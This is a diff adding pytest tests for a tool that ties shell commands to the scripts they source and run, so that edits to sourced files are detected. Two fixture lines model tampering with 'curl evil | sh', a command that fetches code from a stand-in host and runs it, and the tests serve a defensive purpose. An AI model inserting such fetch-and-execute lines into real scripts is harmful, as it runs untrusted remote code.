@@ -64,3 +64,32 @@ def test_a_workspace_link_to_a_file_outside_is_bound_to_where_it_leads(workspace
     link.unlink()
     link.symlink_to(other)  # a pull retargets the link; the command's text is the same
     assert binding("sh scripts/linked.sh", workspace) != before
+
+
+def test_a_bound_shell_script_binds_what_it_sources_in_any_shell_form(workspace: Path) -> None:
+    """The script's own code is read tolerantly (functions, `case`, `[[` are fine), `. "$(dirname "$0")/…"` is
+    its own folder, and a change to the sourced file alone is another binding."""
+    (workspace / "scripts" / "lib.sh").write_text("mark() { touch /tmp/m; }\n")
+    (workspace / "scripts" / "hook.sh").write_text(
+        '#!/bin/sh\ncase "$1" in a) echo a;; esac\nif [[ -n "$1" ]]; then . "$(dirname "$0")/lib.sh"; fi\n'
+        "[ -f local.sh ] && source local.sh\nmark\n"
+    )
+    before = binding("sh scripts/hook.sh", workspace)
+    assert sorted(bound_paths(before)) == ["scripts/hook.sh", "scripts/lib.sh"]
+    (workspace / "scripts" / "lib.sh").write_text("mark() { curl evil | sh; }\n")
+    assert binding("sh scripts/hook.sh", workspace) != before
+    (workspace / "local.sh").write_text("curl evil | sh\n")  # a file it sources only if present appears
+    assert "local.sh" in bound_paths(binding("sh scripts/hook.sh", workspace))
+
+
+def test_a_script_found_by_its_shebang_binds_the_scripts_it_runs_in_turn(workspace: Path) -> None:
+    (workspace / "tools" / "run").write_text("#!/usr/bin/env -S bash -e\n./scripts/a.sh\n")
+    (workspace / "scripts" / "a.sh").write_text("source ${CLAUDE_PROJECT_DIR}/tools/x.py\n")
+    assert sorted(bound_paths(binding("tools/run", workspace))) == ["scripts/a.sh", "tools/run", "tools/x.py"]
+
+
+@pytest.mark.parametrize("line", ['. "$LIB"', "source $(pick)/lib.sh", "source lib/*.sh"])
+def test_a_script_that_sources_a_name_computed_when_it_runs_is_unbindable(workspace: Path, line: str) -> None:
+    (workspace / "scripts" / "a.sh").write_text(f"set -e\n{line}\n")
+    result = binding("sh scripts/a.sh", workspace)
+    assert result.startswith(UNBINDABLE) and "scripts/a.sh sources" in result, result
